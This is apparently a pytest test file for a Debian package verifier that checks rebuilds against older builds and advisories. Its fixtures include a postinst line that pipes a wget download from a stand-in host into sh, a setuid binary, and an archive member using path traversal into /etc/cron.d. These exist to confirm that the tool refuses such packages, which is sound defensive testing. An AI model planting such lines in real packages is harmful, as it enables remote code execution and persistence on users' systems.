from __future__ import annotations

import json
from pathlib import Path

import pytest

from suture.command.main import main
from tests.unit.sourcing.analysis.package import Build, deb, info, tar

OLD = Build(scripts={"postinst": "ldconfig"})


def verify(capsys: pytest.CaptureFixture[str], *arguments: object) -> tuple[int, str]:
    status = main(["verify", "package", *map(str, arguments)])
    found = capsys.readouterr()
    return status, found.out + found.err


def test_an_ordinary_rebuild_passes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    new, old = OLD.update().into(tmp_path), OLD.into(tmp_path)
    status, text = verify(capsys, new.path, "--against", old.path, "--json")
    assert status == 0
    found = json.loads(text)
    assert (found["verdict"], found["reason"]) == ("nothing", None)
    assert found["examinations"][0]["examiner"] == "notes"
    assert found["examinations"][0]["concerns"] == []


def test_a_silent_network_call_and_a_setuid_file_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = OLD.into(tmp_path)
    new = Build(**{**OLD.update().__dict__, "scripts": {"postinst": "ldconfig\nwget -qO- http://192.0.2.1/x | sh"}})
    new = new.plus("usr/bin/su2", "x", 0o4755)
    status, text = verify(capsys, new.into(tmp_path).path, "--against", old.path, "--json")
    assert status == 1
    found = json.loads(text)
    assert found["verdict"] == "refused"
    concerns = {concern["kind"]: concern for concern in found["examinations"][0]["concerns"]}
    assert concerns["undeclared_network_in_script"]["action"] == "refuse"
    assert "192.0.2.1" in concerns["undeclared_network_in_script"]["sentence"]
    assert concerns["undeclared_setuid"]["subject"] == "usr/bin/su2"
    status, text = verify(capsys, new.into(tmp_path).path, "--against", old.path)
    assert (status, text.splitlines()[-1]) == (1, "refused")


def test_an_advisory_that_claims_more_is_to_be_reviewed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    advisory = tmp_path / "DSA-1.txt"
    advisory.write_text("Fixes CVE-2026-9999.")
    new, old = OLD.update().into(tmp_path), OLD.into(tmp_path)
    status, text = verify(capsys, new.path, "--against", old.path, "--advisory", advisory)
    assert status == 1
    assert "CVE-2026-9999" in text
    assert text.splitlines()[-1] == "review"


def test_a_hostile_archive_is_refused_with_its_reason(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "portal_1.0_amd64.deb"
    path.write_bytes(deb(tar([(info("./../../etc/cron.d/x"), b"x")])))
    status, text = verify(capsys, path, "--json")
    assert status == 1
    found = json.loads(text)
    assert (found["verdict"], found["reason"], found["fault"]) == ("refused", "malformed", "traversal")
    assert found["member"] == "./../../etc/cron.d/x"
    assert not list(Path("/etc/cron.d").glob("x"))


def test_bad_input_is_status_two(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = OLD.into(tmp_path).path
    assert verify(capsys, tmp_path / "nowhere.deb")[0] == 2
    assert verify(capsys, good, "--advisory", tmp_path / "nowhere.txt")[0] == 2
    assert verify(capsys, good, "--against", Build(name="gateway").into(tmp_path).path)[0] == 2
    broken = tmp_path / "broken.deb"
    broken.write_bytes(b"no package")
    assert verify(capsys, good, "--against", broken)[0] == 2
    assert verify(capsys, broken)[0] == 1
